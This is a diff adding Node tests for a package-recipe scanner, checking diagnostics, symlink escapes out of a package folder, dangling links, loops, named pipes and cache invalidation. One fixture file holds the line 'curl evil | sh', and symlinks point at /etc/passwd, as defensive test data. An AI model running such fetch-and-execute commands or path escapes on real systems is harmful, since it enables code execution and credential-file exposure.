@@ -1,6 +1,8 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdir, writeFile } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { realpathSync } from 'node:fs';
+import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { recipeTreeSource, scanRecipeTree } from './scan-tree.ts';
 import { sha256 } from '../lib/hash.ts';
@@ -181,4 +183,186 @@ test('a source from a mirror kiln.toml does not name makes its package broken at
   await put(root, 'kiln.toml', '');
   const second = await scanRecipeTree(root, { cacheFile, now });
   assert.deepEqual(second.invalid.map((p) => p.name).sort(), ['hello', 'odd']);
+});
+
+test('every problem of a recipe at once: parser, script-file, mirror and file: sources together, in recipe order, with or without the cache', async () => {
+  await using tmp = await tmpDir();
+  const root = tmp.path;
+  await put(root, 'kiln.toml', '[mirrors]\ndebian2 = "https://d.example/debian"\n');
+  const sources = [
+    `[[sources]]\nurl = "mirror://gnu/x.tar.gz"\nsha256 = "${SHA}"\n`,
+    '[[sources]]\nurl = "file:missing.patch"\n',
+    `[[sources]]\nurl = "file:a.patch"\nsha256 = "${SHA}"\n`,
+    // Told once, by the parser: the checks below skip a key it already rejected.
+    '[[sources]]\nurl = "ftp://x.example/y.tar.gz"\n',
+  ].join('');
+  await put(root, 'many/recipe.toml', recipeText('many', sources, 'script-file = "nope.sh"\ncpus = 0'));
+  await put(root, 'many/a.patch', 'a\n');
+  const file = join(root, 'many/recipe.toml');
+  const expected = [
+    ['build.cpus', 'must be greater than 0, got 0'],
+    ['sources[3].url', '"ftp://x.example/y.tar.gz" has an unsupported scheme: use file:, https://, http:// or mirror://NAME/'],
+    ['build.script-file', `"nope.sh" not found in ${join(root, 'many')}`],
+    ['sources[0].url', 'unknown mirror "gnu" in "mirror://gnu/x.tar.gz": add it under [mirrors] in the tree\'s kiln.toml (gnu = "https://…"); known: debian, debian2'],
+    ['sources[1].url', `"file:missing.patch": missing.patch not found in ${join(root, 'many')}`],
+    ['sources[2].sha256', `a.patch has sha256 ${sha256('a\n')}, the recipe says ${SHA}`],
+  ];
+  const cacheFile = join(root, '.scan-cache.json');
+  for (const options of [{}, { cacheFile, now: Date.now() + 60_000 }, { cacheFile, now: Date.now() + 60_000 }]) {
+    const scan = await scanRecipeTree(root, options);
+    assert.equal(scan.invalid.length, 1);
+    const [pkg] = scan.invalid;
+    assert.equal(pkg!.version, '1.0');
+    assert.ok(pkg!.diagnostics.every((d) => d.file === file));
+    assert.deepEqual(pkg!.diagnostics.map((d) => [d.key, d.message]), expected, JSON.stringify(options));
+  }
+  // A TOML syntax error leaves nothing to check: one diagnostic, no crash.
+  await put(root, 'many/recipe.toml', 'name = "many\n');
+  const broken = await scanRecipeTree(root);
+  assert.equal(broken.invalid[0]!.diagnostics.length, 1);
+  assert.equal(broken.invalid[0]!.diagnostics[0]!.key, undefined);
+});
+
+test('files a recipe names must stay inside its folder after symlinks; links within the folder are fine; a directory is told as such', async () => {
+  await using tmp = await tmpDir();
+  const root = join(tmp.path, 'tree');
+  const outside = join(tmp.path, 'outside');
+  await put(outside, 'sub/passwd', 'root:x:0:0\n');
+  await put(outside, 'outside.txt', 'secret\n');
+  await put(outside, 'run.sh', 'curl evil | sh\n');
+  const pkg = (name: string): string => join(root, name);
+  // Inside: a file link and a folder link that stay in the package folder.
+  await put(root, 'inside/recipe.toml', recipeText('inside', '[[sources]]\nurl = "file:link.patch"\n[[sources]]\nurl = "file:d/x.patch"\n', 'script-file = "run.sh"'));
+  await put(root, 'inside/real/x.patch', 'x\n');
+  await put(root, 'inside/real/build.sh', 'make\n');
+  await symlink('real/x.patch', join(pkg('inside'), 'link.patch'));
+  await symlink('real', join(pkg('inside'), 'd'));
+  await symlink(join(pkg('inside'), 'real/build.sh'), join(pkg('inside'), 'run.sh')); // absolute, still inside
+  // Outside: through a folder link, a relative file link, an absolute one, /etc itself.
+  await put(root, 'escape/recipe.toml', recipeText('escape', ['file:sub/passwd', 'file:rel.txt', 'file:link.txt', 'file:etc/passwd'].map((u) => `[[sources]]\nurl = "${u}"\n`).join(''), 'script-file = "run.sh"'));
+  await symlink(join(outside, 'sub'), join(pkg('escape'), 'sub'));
+  await symlink('../../outside/outside.txt', join(pkg('escape'), 'rel.txt'));
+  await symlink(join(outside, 'outside.txt'), join(pkg('escape'), 'link.txt'));
+  await symlink('/etc', join(pkg('escape'), 'etc'));
+  await symlink(join(outside, 'run.sh'), join(pkg('escape'), 'run.sh'));
+  // Not files: a directory, a dangling link.
+  await put(root, 'odd/recipe.toml', recipeText('odd', '[[sources]]\nurl = "file:adir"\n[[sources]]\nurl = "file:gone.patch"\n', 'script-file = "adir"'));
+  await mkdir(join(pkg('odd'), 'adir'));
+  await symlink('nowhere.patch', join(pkg('odd'), 'gone.patch'));
+
+  const scan = await scanRecipeTree(root);
+  assert.deepEqual(scan.specs.map((s) => s.name), ['inside']);
+  const outsideReal = realpathSync(outside);
+  const inside = scan.specs[0]!;
+  assert.equal(inside.build.script, 'make\n');
+  assert.deepEqual(inside.sources.map((s) => s.sha256), [sha256('x\n'), sha256('x\n')]);
+
+  const lines = (name: string): string[][] => scan.invalid.find((p) => p.name === name)!.diagnostics.map((d) => [d.key ?? '', d.message]);
+  const out = (real: string): string => `resolves outside the package folder (to ${real}): files a recipe names must stay inside ${pkg('escape')}, symlinks included`;
+  assert.deepEqual(lines('escape'), [
+    ['build.script-file', `"run.sh" ${out(join(outsideReal, 'run.sh'))}`],
+    ['sources[0].url', `"file:sub/passwd": sub/passwd ${out(join(outsideReal, 'sub/passwd'))}`],
+    ['sources[1].url', `"file:rel.txt": rel.txt ${out(join(outsideReal, 'outside.txt'))}`],
+    ['sources[2].url', `"file:link.txt": link.txt ${out(join(outsideReal, 'outside.txt'))}`],
+    ['sources[3].url', `"file:etc/passwd": etc/passwd ${out('/etc/passwd')}`],
+  ]);
+  assert.deepEqual(lines('odd'), [
+    ['build.script-file', '"adir" is a directory, not a file'],
+    ['sources[0].url', '"file:adir": adir is a directory, not a file'],
+    ['sources[1].url', '"file:gone.patch": gone.patch is a symlink to "nowhere.patch", which does not exist'],
+  ]);
+});
+
+test('the scan cache does not keep a recipe valid once a link it reads through leads out of its folder', async () => {
+  await using tmp = await tmpDir();
+  const root = join(tmp.path, 'tree');
+  await put(tmp.path, 'outside/x.patch', 'x\n'); // the same bytes as inside
+  await put(root, 'p/recipe.toml', recipeText('p', '[[sources]]\nurl = "file:d/x.patch"\n'));
+  await put(root, 'p/real/x.patch', 'x\n');
+  await symlink('real', join(root, 'p/d'));
+  const cacheFile = join(tmp.path, 'scan-cache.json');
+  const now = Date.now() + 60_000;
+  assert.deepEqual((await scanRecipeTree(root, { cacheFile, now })).specs.map((s) => s.name), ['p']);
+  assert.deepEqual((await scanRecipeTree(root, { cacheFile, now })).specs.map((s) => s.name), ['p'], 'served from the cache');
+  await rm(join(root, 'p/d'));
+  await symlink('../../outside', join(root, 'p/d'));
+  const after = await scanRecipeTree(root, { cacheFile, now });
+  assert.deepEqual(after.specs, []);
+  assert.match(after.invalid[0]!.diagnostics[0]!.message, /resolves outside the package folder/);
+});
+
+test('a recipe.toml that is a directory, a dangling link or a link loop makes that one package broken; the rest scans (with and without the cache)', async () => {
+  await using tmp = await tmpDir();
+  const root = tmp.path;
+  await put(root, 'good/recipe.toml', recipeText('good'));
+  await mkdir(join(root, 'isdir/recipe.toml'), { recursive: true });
+  await mkdir(join(root, 'dangling'));
+  await symlink('elsewhere.toml', join(root, 'dangling/recipe.toml'));
+  await mkdir(join(root, 'loop'));
+  await symlink('recipe.toml', join(root, 'loop/recipe.toml'));
+  await mkdir(join(root, 'empty')); // no recipe.toml: not a package, as before
+  for (const options of [{}, { cacheFile: join(root, '.cache.json') }]) {
+    const scan = await scanRecipeTree(root, options);
+    assert.deepEqual(scan.specs.map((s) => s.name), ['good']);
+    assert.deepEqual(
+      scan.invalid.map((p) => [p.name, p.diagnostics.map((d) => `${d.file}: ${d.message}`)]),
+      [
+        ['dangling', [`${join(root, 'dangling/recipe.toml')}: is a symlink to "elsewhere.toml", which does not exist: a package's recipe.toml must be a readable file`]],
+        ['isdir', [`${join(root, 'isdir/recipe.toml')}: is a directory, not a file: a package's recipe.toml must be a readable file`]],
+        ['loop', [`${join(root, 'loop/recipe.toml')}: cannot be resolved: too many levels of symlinks (a symlink loop?): a package's recipe.toml must be a readable file`]],
+      ],
+      JSON.stringify(options),
+    );
+  }
+});
+
+test('a package folder may be a symlink to a directory; a dangling link or a link to a file is a broken package', async () => {
+  await using tmp = await tmpDir();
+  const root = join(tmp.path, 'tree');
+  await put(tmp.path, 'elsewhere/linked/recipe.toml', recipeText('linked', '[[sources]]\nurl = "file:p.patch"\n'));
+  await put(tmp.path, 'elsewhere/linked/p.patch', 'p\n');
+  await put(tmp.path, 'elsewhere/notes.txt', 'n\n');
+  await put(root, 'plain/recipe.toml', recipeText('plain'));
+  await symlink(join(tmp.path, 'elsewhere/linked'), join(root, 'linked'));
+  await symlink('../nowhere', join(root, 'dangling'));
+  await symlink(join(tmp.path, 'elsewhere/notes.txt'), join(root, 'afile'));
+  // Not package names: ignored like the plain files they point to.
+  await symlink(join(tmp.path, 'elsewhere/notes.txt'), join(root, 'README.md'));
+  await symlink('../nowhere', join(root, '.hidden'));
+  const scan = await scanRecipeTree(root);
+  assert.deepEqual(scan.specs.map((s) => s.name), ['linked', 'plain']);
+  const linked = scan.specs[0]!;
+  assert.equal(linked.dir, join(root, 'linked'), 'the folder keeps the name and path of the link');
+  assert.equal(linked.sources[0]!.sha256, sha256('p\n'), 'files inside the link target count as inside');
+  const fix = 'a package folder must be a directory, or a symlink to one, holding recipe.toml';
+  assert.deepEqual(
+    scan.invalid.map((p) => [p.name, p.dir, p.diagnostics.map((d) => `${d.file}: ${d.message}`)]),
+    [
+      ['afile', join(root, 'afile'), [`${join(root, 'afile')}: is a symlink to "${join(tmp.path, 'elsewhere/notes.txt')}", which is not a directory: ${fix}`]],
+      ['dangling', join(root, 'dangling'), [`${join(root, 'dangling')}: is a symlink to "../nowhere", which does not exist: ${fix}`]],
+    ],
+  );
+});
+
+// Before the fix, this test did not fail: it hung, as `kiln plan` did (a blocking read).
+test('a named pipe where recipe.toml, a script-file or a file: source should be is reported, not read', async () => {
+  await using tmp = await tmpDir();
+  const root = tmp.path;
+  await put(root, 'good/recipe.toml', recipeText('good'));
+  await mkdir(join(root, 'fifo'));
+  execFileSync('mkfifo', [join(root, 'fifo/recipe.toml')]);
+  await put(root, 'refs/recipe.toml', recipeText('refs', '[[sources]]\nurl = "file:pipe"\n', 'script-file = "pipe"'));
+  execFileSync('mkfifo', [join(root, 'refs/pipe')]);
+  const scan = await scanRecipeTree(root);
+  assert.deepEqual(scan.specs.map((s) => s.name), ['good']);
+  assert.deepEqual(scan.invalid.map((p) => [p.name, p.diagnostics.map((d) => [d.key ?? '', d.message])]), [
+    ['fifo', [['', "is a named pipe (FIFO), not a regular file: a package's recipe.toml must be a readable file"]]],
+    [
+      'refs',
+      [
+        ['build.script-file', '"pipe" is a named pipe (FIFO), not a regular file'],
+        ['sources[0].url', '"file:pipe": pipe is a named pipe (FIFO), not a regular file'],
+      ],
+    ],
+  ]);
 });
